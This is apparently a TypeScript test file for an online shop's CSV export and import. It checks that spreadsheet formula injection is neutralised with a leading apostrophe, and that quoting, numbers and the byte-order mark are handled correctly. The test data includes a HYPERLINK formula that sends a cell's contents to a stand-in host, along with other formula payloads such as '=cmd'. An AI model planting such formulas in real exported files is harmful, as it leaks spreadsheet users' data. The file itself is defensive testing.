/**
 * The shop's one CSV writer and the importers' reading of its cells: hostile text never reaches a
 * spreadsheet as a formula, numbers stay numbers, and the apostrophe comes off only where the
 * writer put it.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, readCsvCell, toCsv } from '#lib/csv.ts';

const HYPERLINK = '-1+HYPERLINK("http://x?d="&A2,"x")';

/** The file's cells as a spreadsheet's CSV reader sees them (RFC 4180, quotes removed). */
const cellsOf = (csv: string) => parse(csv, { relax_column_count: true }) as string[][];

describe('toCsv', () => {
  it('writes every hostile text cell with a leading apostrophe', () => {
    const csv = toCsv(
      ['name'],
      [[HYPERLINK], ['=1+1'], ['@SUM(A1)'], ['+919447000000'], ['\tTab'], ['\rCarriage'], ['-5']],
    );
    expect(cellsOf(csv).slice(1).flat()).toEqual([
      `'${HYPERLINK}`,
      "'=1+1",
      "'@SUM(A1)",
      "'+919447000000",
      "'\tTab",
      "'\rCarriage",
      "'-5",
    ]);
  });

  it('writes numbers as numbers, a negative one too, and booleans and empty cells plainly', () => {
    const csv = toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [[-1, 12.5, 0, true, false, null]]);
    expect(csv).toBe('\uFEFFa,b,c,d,e,f\r\n-1,12.5,0,true,false,\r\n');
  });

  it('leaves harmless text alone, a name that already starts with an apostrophe too', () => {
    const csv = toCsv(['name', 'other'], [["'Bhindi", 'Tomato - Local']]);
    expect(cellsOf(csv)[1]).toEqual(["'Bhindi", 'Tomato - Local']);
  });

  it('quotes commas, quotes and line breaks (a lone LF or CR too) so each cell stays one cell', () => {
    const csv = toCsv(['a', 'b', 'c', 'd'], [['Bhindi, "Lady\'s finger"', 'one\ntwo', 'x\ry', 'end']]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(cellsOf(csv)[1]).toEqual(['Bhindi, "Lady\'s finger"', 'one\ntwo', 'x\ry', 'end']);
  });

  it('begins every file with a UTF-8 byte-order mark, so Excel on Windows reads Malayalam and ₹ as UTF-8', () => {
    const csv = toCsv(['name'], [['പാവയ്ക്ക ₹40']]);
    expect([...new TextEncoder().encode(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(csv, { bom: true })).toEqual([['name'], ['പാവയ്ക്ക ₹40']]);
  });

  it('neutralises a hostile header too', () => {
    expect(toCsv(['=cmd'], []).trim()).toBe("'=cmd");
  });
});

describe('readCsvCell', () => {
  it('takes off the apostrophe the writer put before a formula character', () => {
    for (const text of [HYPERLINK, '=x', '+91 94470 00000', '@home', '\tTab', '\rCR', '-5'])
      expect(readCsvCell(neutraliseCell(text))).toBe(text);
  });

  it("keeps an apostrophe that is the text's own", () => {
    expect(readCsvCell("'Bhindi")).toBe("'Bhindi");
    expect(readCsvCell("'")).toBe("'");
    expect(readCsvCell("''=x")).toBe("''=x");
    expect(readCsvCell('=x')).toBe('=x');
  });
});
